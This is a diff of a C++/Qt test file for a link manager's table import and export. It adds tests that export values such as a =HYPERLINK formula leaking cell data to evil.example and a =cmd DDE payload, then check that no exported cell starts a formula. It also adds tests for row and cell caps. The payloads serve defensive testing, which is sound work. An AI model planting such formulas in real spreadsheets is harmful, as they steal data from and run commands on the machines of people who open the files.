@@ -70,7 +70,7 @@ QList<QStringList> rowsOf(const Table &table)
 {
     QList<QStringList> rows;
     for (const TableRow &row : table.rows)
-        rows.append(QStringList{QString::number(row.number)} + row.cells);
+        rows.append(QStringList{QString::number(row.number)} + table.cells(row));
     return rows;
 }
 
@@ -191,10 +191,26 @@ private slots:
         }
     }
 
+    // The exports, the sample's links and cells a spreadsheet would run as formulas among them, read
+    // back to the same links: no cell of the file starts a formula, and the guards come off again.
     void exportReadsBackInEveryEncoding()
     {
-        CollectionManager sample;
+        DatabaseBuilder db;
+        CollectionManager &sample = db.store();
         QVERIFY(DatabaseFile::read(QStringLiteral(QM_SOURCE_DIR "/examples/sample.site"), sample));
+        LinkFields formulas;
+        formulas.title = QStringLiteral("=HYPERLINK(\"http://evil.example/?d=\"&A1)");
+        formulas.URL = QStringLiteral("http://formula.example/");
+        formulas.description = QStringLiteral("-5 % off");
+        formulas.counterpartCategoryName = QStringLiteral("'Friends'");
+        formulas.contactFirstName = QStringLiteral("@home");
+        formulas.contactLastName = QStringLiteral("'=already quoted");
+        formulas.contactEmail = QStringLiteral("+1@formula.example");
+        formulas.notes = QStringLiteral("\tindented\r\n=SUM(1)");
+        formulas.lastStatusChangedOn = QDate(2026, 11, 30);
+        formulas.lastVerifiedOn = QDate(2026, 12, 7);
+        formulas.lastVerificationResult = VerificationLinkNotFound;
+        db.category(QStringLiteral("=cmd|' /C calc'!A0"), QStringLiteral("cmd")).link(formulas);
         for (const int encoding :
              {int(TextEncoding::UTF16), int(TextEncoding::UTF8), int(TextEncoding::ISOLatin1),
               int(TextEncoding::MacOSRoman), -1}) { // -1: CSV
@@ -206,6 +222,10 @@ private slots:
                 options.encoding = TextEncoding::MacOSRoman; // never guessed: the user picks it
             const std::optional<Table> read = TableReader::read(data, options);
             QVERIFY(read);
+            for (const TableRow &row : read->rows) {
+                for (const QString &cell : row.cells)
+                    QVERIFY2(!QString("=+-@\t\r").contains(cell.left(1)) || cell.isEmpty(), qPrintable(cell));
+            }
 
             CollectionManager empty;
             TableImporter importer(empty, *read, TableColumns::mappingOfHeaders(read->headers), false, Today);
@@ -259,7 +279,7 @@ private slots:
     void encodings()
     {
         const QString text = QStringLiteral("Title\tURL\nCaf\u00e9 \u20ac\thttp://a.example\n");
-        auto title = [](const Table &table) { return table.rows.value(0).cells.value(0); };
+        auto title = [](const Table &table) { return table.cells(table.rows.value(0)).value(0); };
 
         // UTF-16 marked in either byte order, UTF-8 marked or not; a mark is not part of the first header.
         QStringEncoder utf16le(QStringConverter::Utf16LE, QStringConverter::Flag::WriteBom);
@@ -292,6 +312,18 @@ private slots:
         QVERIFY(error.contains(QLatin1String("not a text table")));
         QVERIFY(!TableReader::read(QByteArray("\n\r\n\r"), {}, &error));
         QVERIFY(error.contains(QLatin1String("no header")));
+
+        // More rows than a database holds links, or more cells in a row than any table of partners
+        // has, is refused before it fills the memory; the message names the cap.
+        const QByteArray rows = QByteArray("URL\n") + QByteArray("a\n").repeated(TableReader::MaximumRows);
+        QCOMPARE(readOrFail(rows).rows.size(), TableReader::MaximumRows);
+        QVERIFY(!TableReader::read(rows + "a\n", {}, &error));
+        QVERIFY2(error.contains(QString::number(TableReader::MaximumRows) + " rows"), qPrintable(error));
+        const QByteArray cells = QByteArray("URL") + QByteArray(",x").repeated(TableReader::MaximumCells - 1);
+        QCOMPARE(readOrFail(cells + "\n").headers.size(), TableReader::MaximumCells);
+        QVERIFY(!TableReader::read("URL,Title\n" + cells + ",x\n", {}, &error)); // comma-delimited
+        QVERIFY2(error.contains(QString::number(TableReader::MaximumCells) + " cells in row 2"),
+                 qPrintable(error));
 
         // A file past the cap is refused before anything is read (a sparse file takes no room).
         QTemporaryDir dir;
